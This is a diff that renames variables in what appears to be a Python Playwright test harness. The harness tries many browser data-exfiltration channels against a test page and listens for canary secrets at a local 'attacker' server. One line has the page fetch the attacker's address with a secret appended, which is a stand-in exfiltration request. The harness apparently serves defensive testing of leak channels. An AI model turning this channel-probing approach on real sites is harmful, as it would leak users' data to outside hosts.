@@ -17,19 +17,19 @@ from waiting import until
 from exfiltration.listeners.answers import AROUND, OPENER
 from exfiltration.listeners.attacker import Attacker
 from exfiltration.runs.canaries import Try, new_secret, tries
-from exfiltration.runs.channels import SAID, SIGN, TRY, Way
+from exfiltration.runs.channels import SAID, SIGN, TRY, Channel
 from exfiltration.runs.left_behind import find
 from exfiltration.runs.site_host import BARE
-from exfiltration.runs.targets import Place
+from exfiltration.runs.targets import AttackedPage
 
 # How long, in seconds, to wait for an expected canary: far above what a busy machine needs.
-PATIENCE = 20.0
+TIMEOUT = 20.0
 # The longest time, in seconds, that a request from the page to the attacker takes on an idle machine.
-QUIET_KNOCK = 0.05
+USUAL_ROUND_TRIP_S = 0.05
 # How often an expected channel is tried again if its canary did not arrive.
-SECOND_CHANCES = 2
+RETRIES = 2
 # How many tabs are attacked at the same time.
-ABREAST = 4
+PARALLEL_TABS = 4
 
 # _CLEAR_AWAY is run between two channels. It undoes what a channel has changed in the page, and returns whether it is
 # still the same page. A page that was reloaded or replaced does not have the mark that _MARK has set.
@@ -47,7 +47,7 @@ class AttackRun:
 
     context: BrowserContext
     attacker: Attacker
-    place: Place
+    place: AttackedPage
     # The names of the channels that are expected to work. The run waits for their canaries.
     expected: Collection[str] = ()
     # How long to listen, in seconds, for canaries that are not expected: after many channels, and after a few.
@@ -58,30 +58,34 @@ class AttackRun:
     slowest: float = field(default=0.0, init=False)
     # The largest factor by which listening was extended on a busy machine.
     stretch: float = field(default=1.0, init=False)
-    said: dict[str, str] = field(default_factory=dict, init=False)
+    results: dict[str, str] = field(default_factory=dict, init=False)
     _tried: list[Try] = field(default_factory=list, init=False)
 
     @property
     def arrived(self) -> set[str]:
         """Return the names of the channels whose canaries have arrived, however late."""
-        heard = self.attacker.heard
-        return {each.way.name for each in self._tried if heard.when(each.secret) is not None}
+        received = self.attacker.received
+        return {each.channel.name for each in self._tried if received.when(each.secret) is not None}
 
-    def from_worker(self, worker: Worker, ways: Sequence[Way]) -> None:
+    def from_worker(self, worker: Worker, channels: Sequence[Channel]) -> None:
         """Try all channels that a worker may have."""
-        for each in self._and_again([way for way in ways if way.in_worker]):
+        for each in self._and_again([channel for channel in channels if channel.in_worker]):
             with self._tries(each) as tries:
                 self._start(worker, tries)
                 self._wait_until_said(worker, tries)
                 find(self.context, self.place.second, self.attacker.address)
                 self._listen(tries, self.settle)
 
-    def from_page_and_elsewhere(self, page: Page, ways: Sequence[Way]) -> None:
+    def from_page_and_elsewhere(self, page: Page, channels: Sequence[Channel]) -> None:
         """Try all channels that need neither a worker nor the service worker.
 
         First from a page that is ready, then by hostile pages that open it or embed it in a frame.
         """
-        here = [way for way in ways if not way.only_in_worker and way.tried != "kept"]
+        here = [
+            channel
+            for channel in channels
+            if not channel.only_in_worker and channel.tried != "kept"
+        ]
         for each in self._and_again(here):
             if page.is_closed():
                 page = self.open(again=True)
@@ -89,10 +93,14 @@ class AttackRun:
             self.close_others()
             self.from_elsewhere(each)
 
-    def from_page(self, page: Page, ways: Sequence[Way]) -> None:
+    def from_page(self, page: Page, channels: Sequence[Channel]) -> None:
         """Try these channels in a page that is ready. Afterwards it may have navigated elsewhere or be closed."""
         tried = {
-            manner: [way for way in ways if way.tried == manner and not way.only_in_worker]
+            manner: [
+                channel
+                for channel in channels
+                if channel.tried == manner and not channel.only_in_worker
+            ]
             for manner in ("together", "windows", "left", "alone", "click", "leaving", "last")
         }
         page.bring_to_front()
@@ -104,40 +112,43 @@ class AttackRun:
             page = self._as_new(page)
             self._together(page, several)
         page = self._abreast(page, tried["alone"])
-        for way in tried["click"]:
+        for channel in tried["click"]:
             page = self._as_new(page)
             self.close_others(page)
             page.bring_to_front()
-            self.alone(page, way)
-        for way in tried["last"]:
+            self.alone(page, channel)
+        for channel in tried["last"]:
             self.close_others()
-            self.alone(self.open(again=True), way)
+            self.alone(self.open(again=True), channel)
 
-    def from_elsewhere(self, ways: Sequence[Way]) -> None:
+    def from_elsewhere(self, channels: Sequence[Channel]) -> None:
         """Try the channels that need a hostile page, which opens this page or embeds it in a frame."""
-        opened, framed = ([way for way in ways if way.tried == how] for how in ("opened", "framed"))
+        opened, framed = (
+            [channel for channel in channels if channel.tried == manner]
+            for manner in ("opened", "framed")
+        )
         if opened:
             page = self._opened()
-            for way in opened:
-                self.alone(page, way)
+            for channel in opened:
+                self.alone(page, channel)
             self.close_others()
         if framed and (frame := self._framed()):
-            for way in framed:
-                self.alone(frame, way)
+            for channel in framed:
+                self.alone(frame, channel)
             self.close_others()
 
-    def from_kept(self, ways: Sequence[Way]) -> None:
+    def from_kept(self, channels: Sequence[Channel]) -> None:
         """Try the channels that need the site's service worker. From now on the host serves it."""
         self.place.host.offer_service_worker()
-        for each in self._and_again([way for way in ways if way.tried == "kept"]):
+        for each in self._and_again([channel for channel in channels if channel.tried == "kept"]):
             self._together(self.open(again=True), each)
             self.close_others()
 
-    def alone(self, target: Page | Frame, way: Way) -> None:
+    def alone(self, target: Page | Frame, channel: Channel) -> None:
         """Try one channel by itself."""
-        with self._tries([way]) as tries:
+        with self._tries([channel]) as tries:
             self._start(target, tries)
-            if way.tried == "click" and isinstance(target, Page):
+            if channel.tried == "click" and isinstance(target, Page):
                 self._wait_until_covered(target)
                 target.mouse.click(200, 200)
             self._listen(tries, self.settle_few)
@@ -149,10 +160,10 @@ class AttackRun:
         (self.place.ready_again if again else self.place.ready)(page)
         return page
 
-    def close_others(self, *kept: Page) -> None:
+    def close_others(self, *pages: Page) -> None:
         """Close every page except these and the first one, from which `_knock` sends its request."""
         for other in self.context.pages[1:]:
-            if other not in kept:
+            if other not in pages:
                 other.close()
 
     def _opened(self) -> Page:
@@ -185,32 +196,32 @@ class AttackRun:
         _ask(page, _MARK)
         return page
 
-    def _together(self, page: Page, ways: Sequence[Way]) -> None:
-        if not ways:
+    def _together(self, page: Page, channels: Sequence[Channel]) -> None:
+        if not channels:
             return
-        with self._tries(ways) as tries:
+        with self._tries(channels) as tries:
             self._start(page, tries)
             self._wait_until_said(page, tries)
-            if any(way.tried in ("left", "kept") for way in ways):
+            if any(channel.tried in ("left", "kept") for channel in channels):
                 find(self.context, self.place.second, self.attacker.address)
             self._listen(tries, self.settle)
         self.close_others(page)
 
-    def _leaving(self, page: Page, ways: Sequence[Way]) -> None:
-        if not ways:
+    def _leaving(self, page: Page, channels: Sequence[Channel]) -> None:
+        if not channels:
             return
-        with self._tries(ways) as tries:
+        with self._tries(channels) as tries:
             self._start(page, tries)
             # These channels send when the page is left, so their scripts must be waiting before that.
             self._wait_until_said(page, tries)
             page.goto(self.place.second)
             self._listen(tries, self.settle)
 
-    def _abreast(self, page: Page, ways: Sequence[Way]) -> Page:
+    def _abreast(self, page: Page, channels: Sequence[Channel]) -> Page:
         """Try channels that may make a page navigate elsewhere, each in its own tab; return one of the tabs."""
         tabs = [page]
-        for start in range(0, len(ways), ABREAST):
-            batch = ways[start : start + ABREAST]
+        for start in range(0, len(channels), PARALLEL_TABS):
+            batch = channels[start : start + PARALLEL_TABS]
             self.close_others(*tabs)
             tabs = [self._as_new(tab) for tab in tabs]
             while len(tabs) < len(batch):
@@ -222,28 +233,34 @@ class AttackRun:
                 self._listen(tries, self.settle_few)
         return tabs[0]
 
-    def _and_again(self, ways: Sequence[Way]) -> Iterator[Sequence[Way]]:
-        """Yield these channels; then, up to SECOND_CHANCES times, the expected ones whose canaries have not arrived.
+    def _and_again(self, channels: Sequence[Channel]) -> Iterator[Sequence[Channel]]:
+        """Yield these channels; then, up to RETRIES times, the expected ones whose canaries have not arrived.
 
         A browser sometimes drops or delays what it usually sends. This says nothing about the channel. The canary of a
         channel that is closed, or that never worked, does not arrive at the third try either.
         """
-        yield ways
-        for _ in range(SECOND_CHANCES):
+        yield channels
+        for _ in range(RETRIES):
             arrived = self.arrived
-            missed = [way for way in ways if way.name in self.expected and way.name not in arrived]
+            missed = [
+                channel
+                for channel in channels
+                if channel.name in self.expected and channel.name not in arrived
+            ]
             if missed:
                 yield missed
 
     @contextmanager
-    def _tries(self, ways: Sequence[Way]) -> Iterator[list[Try]]:
-        with tries(ways, self.attacker, self.place.host.address) as made:
-            self._tried += made
-            self.place.host.signs[:] = [each.secret for each in made if each.way.name == SIGN]
-            yield made
+    def _tries(self, channels: Sequence[Channel]) -> Iterator[list[Try]]:
+        with tries(channels, self.attacker, self.place.host.address) as all_tries:
+            self._tried += all_tries
+            self.place.host.signs[:] = [
+                each.secret for each in all_tries if each.channel.name == SIGN
+            ]
+            yield all_tries
 
     def _start(self, target: Page | Frame | Worker, tries: Sequence[Try]) -> None:
-        pairs = [[each.way.name, each.goal] for each in tries]
+        pairs = [[each.channel.name, each.goal] for each in tries]
         if len(tries) == 1 and isinstance(target, Page):
             _ask_even_if_led_away(target, TRY, pairs)
         else:
@@ -256,23 +273,25 @@ class AttackRun:
     def _wait_until_said(self, target: Page | Worker, tries: Sequence[Try]) -> None:
         """Wait until each channel's script has ended or timed out. Some store data for the second page to find."""
 
-        def said() -> dict[str, str]:
-            found: dict[str, str] = _ask(target, SAID)
-            return found if len(found) == len(tries) else {}
+        def results() -> dict[str, str]:
+            state: dict[str, str] = _ask(target, SAID)
+            return state if len(state) == len(tries) else {}
 
-        self.said |= until(self.context.pages[0], said)
+        self.results |= until(self.context.pages[0], results)
 
     def _listen(self, tries: Sequence[Try], settle: float) -> None:
         """Wait for the expected canaries, then `settle` seconds, or longer on a busy machine, for the others."""
-        heard = self.attacker.heard
+        received = self.attacker.received
         start = time.monotonic()
-        heard.wait_for([each.secret for each in tries if each.way.name in self.expected], PATIENCE)
-        rest = [each.secret for each in tries if each.way.name not in self.expected]
+        received.wait_for(
+            [each.secret for each in tries if each.channel.name in self.expected], TIMEOUT
+        )
+        rest = [each.secret for each in tries if each.channel.name not in self.expected]
         stretch = self._knock()
         if rest:
-            heard.wait_for(rest, settle * stretch)
+            received.wait_for(rest, settle * stretch)
         self.stretch = max(self.stretch, stretch)
-        times = [when for each in tries if (when := heard.when(each.secret)) is not None]
+        times = [when for each in tries if (when := received.when(each.secret)) is not None]
         self.slowest = max(self.slowest, *(when - start for when in times), 0.0)
 
     def _knock(self) -> float:
@@ -288,8 +307,10 @@ class AttackRun:
             page.goto(f"{self.place.host.address}{BARE}")
         start = time.monotonic()
         _ask(page, "address => void fetch(address)", f"{self.attacker.address}/{secret}")
-        assert self.attacker.heard.wait_for([secret], PATIENCE), "the attacker hears nothing at all"
-        return max(1.0, (time.monotonic() - start) / QUIET_KNOCK)
+        assert self.attacker.received.wait_for([secret], TIMEOUT), (
+            "the attacker's server did not receive the test request"
+        )
+        return max(1.0, (time.monotonic() - start) / USUAL_ROUND_TRIP_S)
 
 
 def _ask(target: Page | Frame | Worker, script: str, about: object = None) -> Any:
@@ -300,7 +321,7 @@ def _ask(target: Page | Frame | Worker, script: str, about: object = None) -> An
     if isinstance(target, Worker):
         return target.evaluate(script, about)
     function = f"(_, about) => ({script})(about)"
-    return target.locator("html").evaluate(function, about, timeout=PATIENCE * 1000)
+    return target.locator("html").evaluate(function, about, timeout=TIMEOUT * 1000)
 
 
 def _ask_even_if_led_away(page: Page, script: str, about: object = None) -> Any:
@@ -310,5 +331,5 @@ def _ask_even_if_led_away(page: Page, script: str, about: object = None) -> Any:
     """
     session = page.context.new_cdp_session(page)
     call = f"({script})({json.dumps(about)})"
-    asked = {"expression": call, "returnByValue": True, "userGesture": True}
-    return session.send("Runtime.evaluate", asked)["result"].get("value")
+    parameters = {"expression": call, "returnByValue": True, "userGesture": True}
+    return session.send("Runtime.evaluate", parameters)["result"].get("value")
